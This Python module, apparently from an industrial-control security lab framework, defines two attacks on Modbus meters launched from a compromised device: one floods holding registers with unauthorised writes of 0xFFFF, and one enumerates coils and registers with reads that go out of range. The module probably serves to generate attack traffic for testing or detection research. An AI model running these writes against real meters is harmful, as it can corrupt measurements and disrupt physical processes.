"""Attacks on Modbus meters from a taken-over device."""

from __future__ import annotations

import threading

from emtc_lab.attacks.base import Aim, attack, own, tool
from emtc_lab.services.modbus import open_meter

_METERS = ("modbus-meter",)


@attack("modbus-write", "ics", "device", "device", needs=_METERS)
def write(aim: Aim) -> list[str]:
    """Set points that the master did not send."""
    return own("modbus_write", aim.victim, f"{aim.rate((5, 20), (0.15, 0.5)):.2f}", f"{aim.seconds:.0f}")


@attack("modbus-enumeration", "ics", "lan", "device", needs=_METERS)
def enumeration(aim: Aim) -> list[str]:
    """Which registers and functions are there?"""
    return own("modbus_enumerate", aim.victim, f"{aim.rate((5, 20), (0.3, 1)):.2f}", f"{aim.seconds:.0f}")


@tool
def modbus_write(meter: str, rate: str, seconds: str) -> None:
    """Writes over one connection."""
    with open_meter(meter) as client:
        for number in range(int(float(rate) * float(seconds)) + 2):
            client.write_register(number % 60, 0xFFFF)
            threading.Event().wait(1 / float(rate))


@tool
def modbus_enumerate(meter: str, rate: str, seconds: str) -> None:
    """Reads of every kind, also beyond the end; a new connection each."""
    for number in range(int(float(rate) * float(seconds)) + 2):
        with open_meter(meter) as client:
            read = (client.read_coils, client.read_holding_registers, client.read_input_registers)[number % 3]
            read(number * 7 % 400, count=1 + number % 20)
        threading.Event().wait(1 / float(rate))
